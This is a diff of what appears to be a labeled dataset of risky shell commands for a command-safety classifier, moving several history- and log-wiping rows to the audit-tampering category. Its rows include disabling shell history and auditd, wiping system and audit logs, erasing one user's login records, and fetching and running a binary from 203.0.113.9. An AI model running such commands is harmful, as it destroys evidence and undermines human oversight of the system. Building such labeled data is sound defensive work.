@@ -116,19 +116,19 @@ audit-tampering                | export HISTFILE=; ssh root@10.0.0.9
 audit-tampering                | HISTFILE=/dev/null bash
 audit-tampering                | export HISTTIMEFORMAT=; unset HISTSIZE HISTFILE
 audit-tampering                | shopt -u -o history
-irreversible-local-destruction | rm -P ~/.bash_history
-irreversible-local-destruction | shred ~/.bash_history
+audit-tampering                | rm -P ~/.bash_history
+audit-tampering                | shred ~/.bash_history
 audit-tampering                | cat /dev/null > ~/.python_history
-irreversible-local-destruction | rm -rf ~/.local/share/recently-used.xbel ~/.bash_history
+audit-tampering                | rm -rf ~/.local/share/recently-used.xbel ~/.bash_history
 irreversible-local-destruction | sqlite3 ~/.config/google-chrome/Default/History 'delete from urls'
 credential-exploration         | vim -c ':%d' -c ':wq' ~/.bash_history
 audit-tampering                | journalctl --vacuum-files=1
-irreversible-local-destruction | logrotate -f /etc/logrotate.conf && rm /var/log/*.1
+audit-tampering                | logrotate -f /etc/logrotate.conf && rm /var/log/*.1
 audit-tampering                | service rsyslog stop
 audit-tampering                | pkill -STOP rsyslogd
 audit-tampering                | systemctl restart rsyslog; echo '' > /var/log/secure
 audit-tampering                | sudo systemctl disable auditd.service --now
-irreversible-local-destruction | ausearch -m USER_LOGIN; rm /var/log/audit/audit.log
+audit-tampering                | ausearch -m USER_LOGIN; rm /var/log/audit/audit.log
 audit-tampering                | sed -i '/eve/d' /var/log/auth.log /var/log/wtmp
 unclear                        | mkdir /dev/shm/.x && cp payload /dev/shm/.x/ && /dev/shm/.x/payload
 untrusted-code                 | wget http://203.0.113.9/x -O /dev/shm/x; chmod +x /dev/shm/x; /dev/shm/x
